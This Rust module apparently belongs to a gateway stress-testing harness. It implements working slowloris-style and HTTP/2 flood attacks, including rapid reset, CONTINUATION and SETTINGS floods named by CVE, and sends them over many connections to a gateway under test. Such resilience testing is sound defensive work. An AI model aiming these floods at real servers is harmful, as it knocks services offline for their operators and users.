//! Attackers: each on as many connections as its weight says, a few steps on each at every beat, and a new connection for
//! one that the gateway has cut.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;

use super::summary::Beside;
use super::{PATH, frames};

/// Bytes of a large body.
pub(super) const BODY: usize = 1024 * 1024;
/// How long one write may wait for a gateway that does not read.
const PATIENCE: Duration = Duration::from_millis(500);

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Attack {
    /// Headers of a request, one at a time, without end.
    SlowHeaders,
    /// A body, a few bytes at a time.
    SlowBodies,
    /// HTTP/2: requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// HTTP/2: headers that never end (CVE-2024-27316).
    Continuation,
    /// HTTP/2: settings that must be acknowledged (CVE-2019-9515).
    Settings,
    /// Large bodies that hold nothing: a MiB of brackets.
    BigBodies,
}

/// How much of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Weight {
    /// Connections.
    pub(super) connections: u32,
    /// Steps on each at a beat: requests, frames, lines or bodies.
    pub(super) each: u32,
    /// From one beat to the next.
    pub(super) beat: Duration,
}

impl Attack {
    /// All of them.
    pub(super) const ALL: [Self; 6] =
        [Self::SlowHeaders, Self::SlowBodies, Self::RapidReset, Self::Continuation, Self::Settings, Self::BigBodies];

    /// What it is called in tables.
    pub(super) fn as_str(self) -> &'static str {
        match self {
            Self::SlowHeaders => "slow headers",
            Self::SlowBodies => "slow bodies",
            Self::RapidReset => "HTTP/2 rapid reset",
            Self::Continuation => "HTTP/2 CONTINUATION",
            Self::Settings => "HTTP/2 SETTINGS",
            Self::BigBodies => "large bodies",
        }
    }

    /// How heavy it is, and the harmless load beside which it is put.
    pub(super) fn weight(self) -> Weight {
        let of = |connections, each, beat| Weight { connections, each, beat: Duration::from_millis(beat) };
        match self {
            Self::SlowHeaders | Self::SlowBodies => of(128, 1, 100),
            Self::RapidReset | Self::Continuation | Self::Settings => of(8, 5, 20),
            Self::BigBodies => of(4, 1, 200),
        }
    }

    /// What a connection begins with.
    fn opening(self) -> Vec<u8> {
        let head = |more: &str| {
            format!(
                "POST {PATH} HTTP/1.1\r\nhost: localhost\r\na2a-version: 1.0\r\ncontent-type: application/json\r\n{more}"
            )
        };
        match self {
            Self::SlowHeaders => head("").into_bytes(),
            Self::SlowBodies => head("content-length: 65536\r\n\r\n").into_bytes(),
            Self::RapidReset | Self::Settings => frames::hello(),
            Self::Continuation => [frames::hello(), frames::headers(1, PATH, false)].concat(),
            Self::BigBodies => Vec::new(),
        }
    }

    /// The `number`-th step on a connection.
    fn step(self, number: u32) -> Vec<u8> {
        let stream = number.saturating_mul(2).saturating_add(1);
        match self {
            Self::SlowHeaders => format!("x-more-{number}: y\r\n").into_bytes(),
            Self::SlowBodies => b"          ".to_vec(),
            Self::RapidReset => [frames::headers(stream, PATH, true), frames::reset(stream)].concat(),
            Self::Continuation => frames::continuation(1),
            Self::Settings => frames::settings(),
            Self::BigBodies => {
                let mut bytes = format!("POST {PATH} HTTP/1.1\r\nhost: localhost\r\na2a-version: 1.0\r\ncontent-type: application/json\r\ncontent-length: {BODY}\r\n\r\n").into_bytes();
                bytes.resize(bytes.len() + BODY, b'[');
                bytes
            }
        }
    }
}

/// Attacks for so long; says what was done.
pub(super) async fn send(attack: Attack, gateway: SocketAddr, time: Duration) -> Beside {
    let weight = attack.weight();
    let until = Instant::now() + time;
    let all: Vec<_> = (0..weight.connections).map(|_| tokio::spawn(one(attack, gateway, weight, until))).collect();
    let mut beside = Beside::default();
    for one in all {
        let Ok(done) = one.await else { continue };
        beside.connections += done.connections;
        beside.steps += done.steps;
    }
    beside.per_second = beside.steps as f64 / time.as_secs_f64();
    beside
}

/// One connection at a time, until then.
async fn one(attack: Attack, gateway: SocketAddr, weight: Weight, until: Instant) -> Beside {
    let mut done = Beside::default();
    let mut open: Option<(OwnedWriteHalf, u32)> = None;
    let mut beat = tokio::time::interval(weight.beat);
    beat.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    while Instant::now() < until {
        beat.tick().await;
        let (mut writer, mut number) = match open.take() {
            Some(open) => open,
            None => match begin(attack, gateway).await {
                Some(writer) => {
                    done.connections += 1;
                    (writer, 0)
                }
                None => continue,
            },
        };
        let mut bytes = Vec::new();
        for _ in 0..weight.each {
            bytes.extend(attack.step(number));
            number += 1;
        }
        if written(&mut writer, &bytes).await {
            done.steps += u64::from(weight.each);
            open = Some((writer, number));
        }
    }
    done
}

/// A connection whose answers are read and thrown away; when they end, its writing will fail soon.
async fn begin(attack: Attack, gateway: SocketAddr) -> Option<OwnedWriteHalf> {
    let stream = TcpStream::connect(gateway).await.ok()?;
    stream.set_nodelay(true).ok()?;
    let (mut reader, mut writer) = stream.into_split();
    tokio::spawn(async move {
        let mut bytes = [0; 4096];
        while reader.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
    });
    written(&mut writer, &attack.opening()).await.then_some(writer)
}

async fn written(writer: &mut OwnedWriteHalf, bytes: &[u8]) -> bool {
    matches!(tokio::time::timeout(PATIENCE, writer.write_all(bytes)).await, Ok(Ok(())))
}
